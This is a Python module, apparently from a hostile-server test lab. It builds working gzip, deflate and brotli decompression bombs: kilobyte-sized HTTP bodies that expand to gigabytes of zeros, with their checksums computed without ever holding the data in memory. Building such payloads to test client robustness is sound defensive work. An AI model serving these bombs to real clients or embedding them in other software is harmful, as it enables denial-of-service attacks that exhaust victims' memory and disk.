"""Compressed bombs and filler bodies for the hostile lab, built cheaply and streamed lazily.

Why this works: a deflate stream cut with ``Z_FULL_FLUSH`` is byte-aligned and
forgets its history, so the segment that encodes one MiB of zeros can be sent
again and again and still be a valid stream (about 1 KiB on the wire per MiB
decoded). Brotli reaches a steady state where each flushed MiB of zeros is the
same few bytes; :func:`brotli_bomb` checks that before relying on it. The
trailers (CRC-32 for gzip, Adler-32 for zlib) of "prefix + n zeros" are
computed arithmetically, so nothing of the decoded size is ever materialised:
a 10 GiB bomb costs a few kilobytes of memory and milliseconds to build.
"""

from __future__ import annotations

import functools
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

import brotli

__all__ = [
    "BOMB_TITLE",
    "Bomb",
    "brotli_bomb",
    "crc32_zeros",
    "deflate_bomb",
    "gzip_bomb",
]

BOMB_TITLE = "Bomb"
_PREFIX = f"<html><head><title>{BOMB_TITLE}</title></head><body>".encode()
_MIB = 1 << 20
_DEFAULT_MIBS = 10 * 1024  # 10 GiB of zeros after the prefix
_BATCH = 64 * 1024  # bytes handed to the socket per write


@dataclass(frozen=True, slots=True)
class Bomb:
    """A compressed body: ``head``, then ``segment`` ``count`` times, then ``tail``.

    ``decoded_size`` is the size of the whole body once decompressed.
    """

    encoding: str
    head: bytes
    segment: bytes
    count: int
    tail: bytes
    decoded_size: int

    @property
    def size(self) -> int:
        """Compressed size in bytes (the Content-Length)."""
        return len(self.head) + len(self.segment) * self.count + len(self.tail)

    def chunks(self) -> Iterator[bytes]:
        """The compressed body in writes of about 64 KiB, generated as they are consumed."""
        yield self.head
        per_batch = max(1, _BATCH // len(self.segment))
        batch = self.segment * per_batch
        full, rest = divmod(self.count, per_batch)
        for _ in range(full):
            yield batch
        if rest:
            yield self.segment * rest
        yield self.tail

    def to_bytes(self) -> bytes:
        """The whole compressed body (only for small bombs, in tests)."""
        return b"".join(self.chunks())


def _multmodp(a: int, b: int) -> int:
    """Multiply two polynomials modulo the reflected CRC-32 polynomial."""
    poly = 0xEDB88320
    m = 1 << 31
    product = 0
    while m:
        if a & m:
            product ^= b
        m >>= 1
        b = (b >> 1) ^ poly if b & 1 else b >> 1
    return product


def _x_pow(n: int) -> int:
    """x**n modulo the CRC-32 polynomial (reflected: x**0 is bit 31)."""
    result = 1 << 31
    square = 1 << 30  # x**1
    while n:
        if n & 1:
            result = _multmodp(square, result)
        square = _multmodp(square, square)
        n >>= 1
    return result


def crc32_zeros(crc: int, count: int) -> int:
    """``zlib.crc32(b"\\0" * count, crc)`` in O(log count) without the zeros."""
    register = crc ^ 0xFFFFFFFF
    return _multmodp(_x_pow(8 * count), register) ^ 0xFFFFFFFF


def _adler32_zeros(adler: int, count: int) -> int:
    """``zlib.adler32(b"\\0" * count, adler)`` in O(1)."""
    base = 65521
    low, high = adler & 0xFFFF, adler >> 16
    high = (high + count * low) % base
    return (high << 16) | low


def _deflate_parts(block: int) -> tuple[bytes, bytes, bytes]:
    """Raw deflate of the prefix, of one block of zeros, and of the final empty block."""
    comp = zlib.compressobj(9, zlib.DEFLATED, -15, 9)
    head = comp.compress(_PREFIX) + comp.flush(zlib.Z_FULL_FLUSH)
    segment = comp.compress(bytes(block)) + comp.flush(zlib.Z_FULL_FLUSH)
    again = comp.compress(bytes(block)) + comp.flush(zlib.Z_FULL_FLUSH)
    if again != segment:  # pragma: no cover - zlib is deterministic after a full flush
        raise RuntimeError("deflate segment is not repeatable")
    return head, segment, comp.flush(zlib.Z_FINISH)


@functools.cache
def gzip_bomb(mibs: int = _DEFAULT_MIBS, block: int = _MIB) -> Bomb:
    """A gzip body decoding to the title prefix then ``mibs`` blocks of zeros (cached)."""
    head, segment, final = _deflate_parts(block)
    zeros = mibs * block
    crc = crc32_zeros(zlib.crc32(_PREFIX), zeros)
    total = len(_PREFIX) + zeros
    header = b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff"  # deflate, no name, mtime 0, max compr.
    trailer = final + struct.pack("<II", crc, total & 0xFFFFFFFF)
    return Bomb("gzip", header + head, segment, mibs, trailer, total)


@functools.cache
def deflate_bomb(mibs: int = _DEFAULT_MIBS, block: int = _MIB) -> Bomb:
    """A zlib-wrapped ("Content-Encoding: deflate") body like :func:`gzip_bomb` (cached)."""
    head, segment, final = _deflate_parts(block)
    zeros = mibs * block
    adler = _adler32_zeros(zlib.adler32(_PREFIX), zeros)
    trailer = final + struct.pack(">I", adler)
    return Bomb("deflate", b"\x78\xda" + head, segment, mibs, trailer, len(_PREFIX) + zeros)


@functools.cache
def brotli_bomb(mibs: int = _DEFAULT_MIBS, block: int = _MIB) -> Bomb:
    """A brotli body decoding to the title prefix then ``mibs`` blocks of zeros (cached).

    The first flushed blocks differ (the window fills up); from then on every
    flushed block of zeros is the same bytes, which is what gets repeated.
    """
    if mibs < 3:
        raise ValueError("a brotli bomb needs at least 3 blocks")
    comp = brotli.Compressor(quality=5, lgwin=24)
    head = comp.process(_PREFIX) + comp.flush()
    warm = [comp.process(bytes(block)) + comp.flush() for _ in range(2)]
    segment = comp.process(bytes(block)) + comp.flush()
    if comp.process(bytes(block)) + comp.flush() != segment:  # pragma: no cover
        raise RuntimeError("brotli segment is not repeatable")
    tail = comp.finish()
    return Bomb("br", head + b"".join(warm), segment, mibs - 2, tail, len(_PREFIX) + mibs * block)
